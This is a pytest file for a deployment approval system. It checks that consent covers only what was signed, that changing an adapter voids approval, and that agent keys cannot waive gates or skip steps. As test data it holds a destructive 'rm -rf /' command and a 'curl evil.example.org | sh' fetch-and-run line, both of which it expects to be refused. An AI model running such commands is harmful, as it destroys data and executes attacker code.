"""What was signed is what goes: who is asked, what falls with a change, what may run."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
import time_machine

from controlplane.access.principals import actor_for_agent
from controlplane.approvals.models import Request
from controlplane.lib import clock
from controlplane.lib.actors import Actor
from controlplane.lib.errors import Conflict, GateNotMet, InvalidTransition, NotAllowed
from deployments import services
from deployments.models import Adapter, Deployment, Step
from deployments.steps import worker
from tests import make
from tests.kit.deployments import HOTFIX, World, again, steps, there
from tests.kit.settled import once

pytestmark = pytest.mark.django_db


@once
def world() -> World:
    return World()


@once
def on_call(world: World) -> Any:
    return world.on_call()


@once
def adapter(world: World) -> Adapter:
    return world.adapter(for_step="agent-deploy")


@once
def ready(world: World, on_call: Any, adapter: Adapter) -> Deployment:
    """To production, and asked about."""
    world.completed("staging")
    return world.ready("production")


@once
def approved(world: World, ready: Deployment) -> Deployment:
    """The same, signed. (Scenes are copied: what a test does to one the other does not see.)"""
    row = world.prepared("production", release="4.2.1", kind="hotfix", **HOTFIX)
    world.settle(row)
    services.declare_ready(again(row), actor=world.actor)
    world.sign(row)
    return again(row)


def agent(world: World) -> Actor:
    key, _ = make.key(make.agent(world.workspace, role=""), scopes=["*"])
    return actor_for_agent(there(key.agent), key=key, scopes=["*"])


def roles(request: Request | None) -> set[str]:
    return {role for slot in there(request).slots.all() for role in slot.roles}


def test_raised_tier__asks_those_of_that_tier(world: World, ready: Deployment) -> None:
    first = there(ready.approval)
    assert roles(first) == {"engineering_lead", "release_manager"}
    services.change_deployment(ready, actor=world.actor, tier=3)
    world.settle(again(ready))  # what that tier asks for
    services.declare_ready(again(ready), actor=world.actor)
    row = again(ready)
    assert {"security_lead", "vp_engineering"} <= roles(row.approval)
    first.refresh_from_db()
    assert first.status == "void"
    # The same tier again goes on with the question that was asked.
    services.change_deployment(row, actor=world.actor, rollback_plan="Another way back.")
    services.declare_ready(again(row), actor=world.actor)
    assert there(again(row).approval).revision == 2


def test_packet__shows_what_an_adapter_runs(ready: Deployment, adapter: Adapter) -> None:
    shown = [(each["adapter"], each["runs"]) for each in there(ready.approval).packet["steps"]]
    assert shown == [("", ""), ("deploy", ["/bin/echo", "hello {release}"]), ("", "")]


@pytest.mark.parametrize("stage", ["asked", "signed"])
def test_changed_adapter__takes_consent_back(
    world: World, ready: Deployment, approved: Deployment, adapter: Adapter, stage: str
) -> None:
    row = ready if stage == "asked" else approved
    services.change_adapter(adapter, actor=world.lead, argv=["/bin/true"], reason="Quicker.")
    row = again(row)
    assert (row.status, there(row.approval).status) == ("preparing", "void")


def test_same_adapter__off_and_on_again__is_what_was_signed(
    world: World, approved: Deployment, adapter: Adapter
) -> None:
    services.switch_adapter(adapter, actor=world.lead, on=False, reason="A look at it.")
    row = services.start(again(approved), actor=world.actor)
    with pytest.raises(Conflict, match="switched off"):
        run(world, row, adapter)
    services.switch_adapter(adapter, actor=world.lead, on=True, reason="It is fine.")
    assert run(world, row, adapter).state == "running"


def its_turn(world: World, row: Deployment) -> Step:
    """The step that the adapter is for, what comes before it done by hand."""
    first, second, _ = steps(row)
    if first.state == "pending":
        services.finish_step(first, actor=world.actor)
    assert second.slug == "agent-deploy"
    return second


def run(world: World, row: Deployment, adapter: Adapter) -> Step:
    return services.run_step(its_turn(world, row), actor=world.actor, adapter=adapter)


@pytest.fixture
def signed(world: World, ready: Deployment) -> Deployment:
    """Its first step runs by the adapter."""
    world.sign(ready)
    return services.start(again(ready), actor=world.actor)


def test_adapter_changed_under_way__does_not_run(
    world: World, signed: Deployment, adapter: Adapter
) -> None:
    services.change_adapter(adapter, actor=world.lead, argv=["/bin/echo", "other"])
    services.switch_adapter(adapter, actor=world.lead, on=True, reason="Back on.")
    with pytest.raises(Conflict, match="Nobody consented"):
        run(world, signed, adapter)
    step = its_turn(world, signed)
    assert step.state == "pending"
    assert services.finish_step(step, actor=world.actor).state == "done"  # by hand


def test_adapter_changed_after_it_was_asked_for__does_not_run(
    world: World, signed: Deployment, adapter: Adapter
) -> None:
    step = run(world, signed, adapter)
    services.change_adapter(adapter, actor=world.lead, argv=["/bin/echo", "other"])
    services.switch_adapter(adapter, actor=world.lead, on=True, reason="Back on.")
    sent: list[tuple[int, str]] = []
    worker.dispatch(lambda pk, token: sent.append((pk, token)))
    assert worker.perform(*sent[0]) == "failed"
    step.refresh_from_db()
    assert ("Nobody consented" in step.outcome, step.output) == (True, "")


def test_other_adapter__is_not_what_was_signed(world: World, signed: Deployment) -> None:
    other = world.adapter(slug="other", argv=["/bin/echo", "x"])
    first, second, *_ = steps(signed)
    with pytest.raises(Conflict, match="Nobody consented"):
        services.run_step(first, actor=world.actor, adapter=other)
    services.finish_step(first, actor=world.actor)
    with pytest.raises(Conflict, match="Nobody consented"):  # signed as done by hand
        services.run_step(second, actor=world.actor, adapter=other)


def test_adapter_for_another_step__is_refused_everywhere(world: World, adapter: Adapter) -> None:
    row = world.started(release="5.1")
    with pytest.raises(Conflict, match="for another step"):
        services.run_step(steps(row)[0], actor=world.actor, adapter=adapter)


def test_steps_under_way__stay_as_signed(world: World, signed: Deployment) -> None:
    first, second, health = steps(signed)
    other = world.adapter(slug="other", argv=["/bin/echo", "x"])
    changes: list[tuple[Step, dict[str, Any]]] = [
        (first, {"command": "rm -rf /"}),
        (first, {"adapter": other}),
        (second, {"adapter": other}),
    ]
    for step, change in changes:
        with pytest.raises(Conflict, match="under way"):
            services.set_step(step, actor=world.actor, **change)
    assert services.set_step(second, actor=world.actor, by_hand=True).kind == "manual"
    named = services.set_step(health, actor=world.actor, url="https://example.org/health")
    with pytest.raises(Conflict, match="under way"):
        services.set_step(named, actor=world.actor, url="https://example.org/always-200")


def test_blocked__begins_nothing_that_was_asked_for(
    world: World, signed: Deployment, adapter: Adapter
) -> None:
    run(world, signed, adapter)
    [message] = messages()
    services.block(again(signed), actor=world.actor, reason="The registry is down.")
    assert (worker.perform(*message), messages()) == ("taken by another", [])
    services.unblock(again(signed), actor=world.actor)
    assert worker.perform(*message) == "done"


def messages() -> list[tuple[int, str]]:
    sent: list[tuple[int, str]] = []
    worker.dispatch(lambda pk, token: sent.append((pk, token)))
    return sent


class TestStart:
    def test_freeze_of_today__holds_what_is_planned_for_tomorrow(
        self, world: World, approved: Deployment
    ) -> None:
        now = clock.now()
        row = world.approved("staging", release="5.0", planned_at=now + timedelta(days=1))
        services.make_freeze(
            world.workspace, actor=world.actor, title="Audit", reason="Auditors are here.",
            starts_at=now - timedelta(hours=1), ends_at=now + timedelta(hours=1),
        )  # fmt: skip
        with pytest.raises(GateNotMet) as refused:
            services.start(row, actor=world.actor)
        assert refused.value.details["gates"] == ["no-freeze"]
        with time_machine.travel(now + timedelta(days=1, minutes=1), tick=False):
            assert services.start(again(row), actor=world.actor).status == "deploying"

    def test_freeze_passed_over__leaves_consent_as_it_is(
        self, world: World, approved: Deployment, ready: Deployment
    ) -> None:
        world.sign(ready)
        now = clock.now()
        services.make_freeze(
            world.workspace, actor=world.actor, title="Audit", reason="Auditors are here.",
            starts_at=now - timedelta(hours=1), ends_at=now + timedelta(hours=1),
        )  # fmt: skip
        with pytest.raises(GateNotMet):
            services.start(again(ready), actor=world.actor)
        lead, why = world.lead, "The auditors asked for it."
        started = services.start(again(ready), actor=lead, override=True, reason=why)
        assert (started.status, there(started.approval).status) == ("deploying", "approved")
        assert world.gate(started, "no-freeze").reason == why

    def test_consent__to_something_else__is_none(self, world: World, approved: Deployment) -> None:
        """However it came that what stands is not what was signed."""
        Step.objects.filter(deployment=approved).update(command="curl evil.example.org | sh")
        with pytest.raises(GateNotMet) as refused:
            services.start(again(approved), actor=world.actor)
        assert refused.value.details["gates"] == ["approval"]


def test_checks_after_it_went__not_before_its_first_step(world: World, signed: Deployment) -> None:
    """What nobody has put out yet can't have been looked at."""
    gate = signed.gates.filter(phase="after", computed=False).first()
    with pytest.raises(Conflict, match="No step of"):
        services.tick_gate(there(gate), actor=world.actor, detail="Looked at it.")
    with pytest.raises(NotAllowed):
        services.tick_gate(there(gate), actor=make.actor(make.person(make.workspace(), "viewer")))


class TestKeys:
    """A key with every right may prepare. What is a person's judgement stays a person's."""

    def test_waives_nothing_in_a_hotfix(self, world: World, on_call: Any) -> None:
        row = world.prepared("production", release="4.2.2", kind="hotfix", **HOTFIX)
        key = agent(world)
        with pytest.raises(NotAllowed, match="person"):
            services.waive_gate(world.gate(row, "agent-tests"), actor=key, reason="Quick.")
        with pytest.raises(NotAllowed, match="person"):
            services.tick_gate(world.gate(row, "hotfix-minimal"), actor=key)
        with pytest.raises(NotAllowed, match="Somebody else"):
            services.tick_gate(world.gate(row, "hotfix-minimal"), actor=world.actor)

    def test_rolls_back__but_leaves_no_step_out(self, world: World, signed: Deployment) -> None:
        key = agent(world)
        row = services.roll_back(signed, actor=key, reason="Errors tripled.")
        with pytest.raises(NotAllowed, match="person"):
            services.skip_step(steps(row)[0], actor=key, reason="It is fine.")
        assert again(signed).status == "deploying"
        services.skip_step(steps(row)[0], actor=world.actor, reason="It is back already.")

    @pytest.mark.parametrize("verb", ["start", "close"])
    def test_neither_starts_nor_closes(self, world: World, approved: Deployment, verb: str) -> None:
        verbs: dict[str, Callable[..., Any]] = {"start": services.start, "close": services.close}
        given = {"reason": "Live."} if verb == "close" else {}
        with pytest.raises(NotAllowed):
            verbs[verb](approved, actor=agent(world), **given)


def test_stranger__changes_no_adapter_of_ours(
    world: World, approved: Deployment, adapter: Adapter
) -> None:
    for actor in (World().lead, world.actor):
        with pytest.raises(NotAllowed):
            services.change_adapter(adapter, actor=actor, argv=["/bin/true"])
    assert again(approved).status == "approved"
    with pytest.raises(InvalidTransition):
        services.declare_ready(again(approved), actor=world.actor)


def test_ready__nobody_can_sign_a_slot__whoever_waits_is_told(
    world: World, ready: Deployment
) -> None:
    """The one release manager asked; two people never sign as one."""
    world.someone("engineering_lead")
    told = services.next_action(again(ready), world.actor)
    assert "Nobody here may sign as " in told.why
    assert not told.allowed
    second = world.someone("release_manager")
    told = services.next_action(again(ready), world.actor)
    assert told.why.startswith("It waits for ")
    assert "Nobody" not in told.why
    assert services.next_action(again(ready), second).verb == "sign"
    stranger = make.actor(make.person(make.workspace(), "release_manager"))
    assert services.next_action(again(ready), stranger).verb != "sign"
